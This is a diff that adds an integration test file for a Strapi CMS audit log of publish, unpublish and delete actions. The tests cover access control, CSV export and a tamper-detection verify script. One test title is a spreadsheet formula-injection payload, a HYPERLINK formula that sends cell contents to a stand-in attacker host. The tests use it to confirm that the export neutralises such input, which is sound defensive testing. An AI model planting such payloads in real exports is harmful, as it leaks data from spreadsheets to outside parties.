@@ -1,0 +1,258 @@
+// The publication record (cms/src/publication-record, docs/OPERATIONS.md) in a real Strapi on
+// SQLite with the seeded editors: what an editor publishes, unpublishes and deletes — one by one
+// and in bulk — is appended with who, what and which document; only the super admin reads it
+// (JSON and CSV, an editor's formula-like title defused); `pnpm record:verify` accepts the chain
+// and names the entry someone edited or deleted directly in the database file.
+import { spawn } from 'node:child_process';
+import { copyFile, readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { DatabaseSync } from 'node:sqlite';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { adminLogin, adminRequests, cm, type Account } from './helpers/admin-api.ts';
+import { REPO } from './helpers/paths.ts';
+import { startStrapi, type StrapiInstance } from './helpers/strapi.ts';
+
+const STAMP = Date.now().toString(36);
+const NEWS = 'api::news-article.news-article';
+const TABLE = 'stadtportal_publication_record';
+/** An editor's title a spreadsheet would run as a formula. */
+const FORMULA_TITLE = `=HYPERLINK("http://angreifer.example/?d="&A1;"Details") ${STAMP}`;
+
+let strapi: StrapiInstance;
+let adminToken = '';
+const tokens = new Map<Account, string>();
+const as = adminRequests(() => strapi.url, tokens);
+let feuerwehrEmail = '';
+let feuerwehrOrg = '';
+
+interface Entry {
+  seq: number;
+  at: string;
+  actorId: number | null;
+  actor: string;
+  action: string;
+  contentType: string | null;
+  documentId: string | null;
+  locale: string | null;
+  label: string | null;
+  organisation: string | null;
+  prevHash: string;
+  hash: string;
+}
+
+const asAdmin = (path: string) => fetch(`${strapi.url}${path}`, { headers: { authorization: `Bearer ${adminToken}` } });
+
+async function record(): Promise<Entry[]> {
+  const res = await asAdmin('/stadtportal/publication-record?pageSize=500');
+  expect(res.status, await res.clone().text()).toBe(200);
+  return ((await res.json()) as { data: Entry[] }).data;
+}
+
+const entriesOf = async (documentId: string) => (await record()).filter((e) => e.documentId === documentId).sort((a, b) => a.seq - b.seq);
+
+async function created(res: Response): Promise<string> {
+  const text = await res.text();
+  expect([200, 201], text).toContain(res.status);
+  return (JSON.parse(text) as { data: { documentId: string } }).data.documentId;
+}
+
+const newsDraft = (slug: string, title: string) => ({
+  title,
+  slug,
+  date: '2026-12-01',
+  teaser: 'Kurz',
+  body: [{ type: 'paragraph', children: [{ type: 'text', text: 'Inhalt' }] }],
+  organisation: { connect: [{ documentId: feuerwehrOrg }] },
+});
+
+/** `node scripts/record/verify.ts` against a database file: exit code and output. */
+function verify(file: string): Promise<{ code: number | null; out: string }> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, [join(REPO, 'scripts/record/verify.ts')], {
+      cwd: REPO,
+      env: { ...process.env, DATABASE_CLIENT: 'sqlite', DATABASE_FILENAME: file },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    let out = '';
+    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
+    child.stderr.on('data', (d: Buffer) => (out += d.toString()));
+    child.on('error', reject);
+    child.on('exit', (code) => resolve({ code, out }));
+  });
+}
+
+beforeAll(async () => {
+  strapi = await startStrapi('sqlite');
+  const logins = JSON.parse(await readFile(join(strapi.dir, 'editor-logins.json'), 'utf8')) as Record<Account, { email: string; password: string }>;
+  feuerwehrEmail = logins.feuerwehr.email;
+  tokens.set('feuerwehr', await adminLogin(strapi.url, logins.feuerwehr.email, logins.feuerwehr.password));
+  tokens.set('pressestelle', await adminLogin(strapi.url, logins.pressestelle.email, logins.pressestelle.password));
+  adminToken = await strapi.adminToken();
+  const orgs = await fetch(`${strapi.url}/api/organisations?filters[slug][$eq]=freiwillige-feuerwehr-aschersleben`);
+  const [org] = ((await orgs.json()) as { data: { documentId: string }[] }).data;
+  if (!org) throw new Error('Organisation Feuerwehr fehlt im Seed');
+  feuerwehrOrg = org.documentId;
+});
+
+afterAll(async () => {
+  await strapi?.stop();
+});
+
+describe('recording', () => {
+  let single = '';
+
+  it('publish, unpublish and delete by an editor append entries naming editor, action and document', async () => {
+    single = await created(await as('feuerwehr', 'POST', cm(NEWS), newsDraft(`protokoll-${STAMP}`, FORMULA_TITLE)));
+    // A draft saved is not a publication: nothing recorded yet.
+    expect(await entriesOf(single)).toEqual([]);
+
+    const pub = await as('feuerwehr', 'POST', cm(NEWS, `/${single}/actions/publish`), {});
+    expect(pub.status, await pub.text()).toBe(200);
+    const unpub = await as('feuerwehr', 'POST', cm(NEWS, `/${single}/actions/unpublish`), {});
+    expect(unpub.status, await unpub.text()).toBe(200);
+    const del = await as('feuerwehr', 'DELETE', cm(NEWS, `/${single}`));
+    expect(del.status, await del.text()).toBe(200);
+
+    const entries = await entriesOf(single);
+    expect(entries.map((e) => e.action)).toEqual(['publish', 'unpublish', 'delete']);
+    for (const e of entries) {
+      expect(e.actor).toContain(feuerwehrEmail);
+      expect(e.actorId).toEqual(expect.any(Number));
+      expect(e.contentType).toBe(NEWS);
+      expect(e.organisation).toBe(feuerwehrOrg);
+      // The title is kept even for the delete (read before the document went).
+      expect(e.label).toBe(`${FORMULA_TITLE} (protokoll-${STAMP})`);
+      expect(e.at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
+      expect(e.hash).toMatch(/^[0-9a-f]{64}$/);
+    }
+    // Consecutive numbers, each linked to the one before.
+    const all = (await record()).sort((a, b) => a.seq - b.seq);
+    for (const [i, e] of all.entries()) {
+      expect(e.seq).toBe(i + 1);
+      if (i > 0) expect(e.prevHash).toBe(all[i - 1]?.hash);
+    }
+  });
+
+  it('an action that changes nothing is not recorded', async () => {
+    const before = (await record()).length;
+    // Unpublishing a draft that was never published: nothing happened, nothing recorded.
+    const draft = await created(await as('feuerwehr', 'POST', cm(NEWS), newsDraft(`nie-veroeffentlicht-${STAMP}`, `Nie ${STAMP}`)));
+    await as('feuerwehr', 'POST', cm(NEWS, `/${draft}/actions/unpublish`), {});
+    expect(await entriesOf(draft)).toEqual([]);
+    expect((await record()).length).toBe(before);
+  });
+
+  it('a bulk publish records one entry per document, and the chain does not fork', async () => {
+    const ids: string[] = [];
+    for (const n of [1, 2, 3])
+      ids.push(await created(await as('pressestelle', 'POST', cm(NEWS), newsDraft(`sammel-${n}-${STAMP}`, `Sammelmeldung ${n} ${STAMP}`))));
+    const res = await as('pressestelle', 'POST', cm(NEWS, '/actions/bulkPublish'), { documentIds: ids });
+    expect(res.status, await res.text()).toBe(200);
+    for (const id of ids) expect((await entriesOf(id)).map((e) => e.action)).toEqual(['publish']);
+    // Three single publishes at once: still one chain.
+    const parallel: string[] = [];
+    for (const n of [4, 5, 6])
+      parallel.push(await created(await as('pressestelle', 'POST', cm(NEWS), newsDraft(`parallel-${n}-${STAMP}`, `Parallel ${n} ${STAMP}`))));
+    const answers = await Promise.all(parallel.map((id) => as('pressestelle', 'POST', cm(NEWS, `/${id}/actions/publish`), {})));
+    expect(answers.map((r) => r.status)).toEqual([200, 200, 200]);
+    const all = (await record()).sort((a, b) => a.seq - b.seq);
+    expect(new Set(all.map((e) => e.prevHash)).size).toBe(all.length);
+    for (const id of parallel) expect((await entriesOf(id)).map((e) => e.action)).toEqual(['publish']);
+  });
+});
+
+describe('reading', () => {
+  it('editors get 403 on the JSON and the CSV', async () => {
+    for (const who of ['feuerwehr', 'pressestelle'] as const) {
+      for (const path of ['/stadtportal/publication-record', '/stadtportal/publication-record.csv']) {
+        const res = await as(who, 'GET', path);
+        expect(res.status, `${who} ${path}`).toBe(403);
+        expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(/Super-Admins/);
+      }
+    }
+    expect((await fetch(`${strapi.url}/stadtportal/publication-record`)).status).toBe(401);
+  });
+
+  it('the admin gets pages newest first', async () => {
+    const res = await asAdmin('/stadtportal/publication-record?page=1&pageSize=2');
+    const body = (await res.json()) as { data: Entry[]; pagination: { page: number; pageSize: number; total: number } };
+    expect(body.data).toHaveLength(2);
+    expect(body.data[0]?.seq).toBe(body.pagination.total);
+    expect(body.data[1]?.seq).toBe(body.pagination.total - 1);
+  });
+
+  it('the admin gets CSV with a German header, and the formula title as text', async () => {
+    const res = await asAdmin('/stadtportal/publication-record.csv');
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
+    expect(res.headers.get('content-disposition')).toMatch(/attachment/);
+    const csv = await res.text();
+    const [header, ...lines] = csv.replace(/^\uFEFF/, '').split('\r\n');
+    expect(header).toMatch(/^Nr\.;Zeitpunkt \(UTC\);Benutzer-ID;Handelnde Person;Aktion;/);
+    const titled = lines.filter((l) => l.includes(STAMP) && l.includes('HYPERLINK'));
+    expect(titled).toHaveLength(3);
+    for (const line of titled) {
+      expect(line).toContain(`;"'=HYPERLINK(""http://angreifer.example/?d=""&A1;""Details"") ${STAMP} (protokoll-${STAMP})";`);
+      expect(line).not.toMatch(/;"?=/);
+    }
+  });
+});
+
+describe('pnpm record:verify', () => {
+  let file = '';
+  let copy = '';
+  let target: Entry | undefined;
+
+  beforeAll(async () => {
+    target = (await record()).find((e) => e.action === 'unpublish' && e.label?.includes(STAMP));
+    // Stopped, so the database file is complete (no write-ahead log) and nothing writes meanwhile.
+    await strapi.halt();
+    file = join(strapi.dir, 'data.db');
+    copy = join(strapi.dir, 'copy.db');
+    await copyFile(file, copy);
+  });
+
+  it('accepts the untouched chain', async () => {
+    const { code, out } = await verify(file);
+    expect(code, out).toBe(0);
+    expect(out).toMatch(/Veröffentlichungsprotokoll: \d+ Einträge, Kette unversehrt/);
+  });
+
+  it('names the entry whose field was edited in the database file', async () => {
+    if (!target) throw new Error('Eintrag „zurückgezogen“ fehlt');
+    const db = new DatabaseSync(file);
+    try {
+      // The trigger refuses the edit …
+      expect(() => db.prepare(`UPDATE ${TABLE} SET actor = ? WHERE seq = ?`).run('jemand-anders@example.org', target?.seq ?? 0)).toThrow(/nur angehängt/);
+      // … but whoever holds the file can drop it.
+      db.exec(`DROP TRIGGER ${TABLE}_no_update`);
+      db.prepare(`UPDATE ${TABLE} SET actor = ? WHERE seq = ?`).run('jemand-anders@example.org', target.seq);
+    } finally {
+      db.close();
+    }
+    const { code, out } = await verify(file);
+    expect(code, out).toBe(1);
+    expect(out).toContain(`Eintrag ${target.seq}: Prüfsumme passt nicht zum Inhalt`);
+  });
+
+  it('names the gap where an entry was deleted', async () => {
+    if (!target) throw new Error('Eintrag „zurückgezogen“ fehlt');
+    const db = new DatabaseSync(copy);
+    try {
+      expect(() => db.prepare(`DELETE FROM ${TABLE} WHERE seq = ?`).run(target?.seq ?? 0)).toThrow(/nur angehängt/);
+      db.exec(`DROP TRIGGER ${TABLE}_no_delete`);
+      db.prepare(`DELETE FROM ${TABLE} WHERE seq = ?`).run(target.seq);
+    } finally {
+      db.close();
+    }
+    const { code, out } = await verify(copy);
+    expect(code, out).toBe(1);
+    expect(out).toContain(`Eintrag ${target.seq + 1}: Lücke in der Nummerierung – Eintrag ${target.seq} fehlt`);
+  });
+
+  it('says so when there is no record to check', async () => {
+    const { code, out } = await verify(join(strapi.dir, 'gibt-es-nicht.db'));
+    expect(code, out).toBe(2);
+    expect(out).toMatch(/nicht lesbar: Keine SQLite-Datenbank/);
+  });
+});
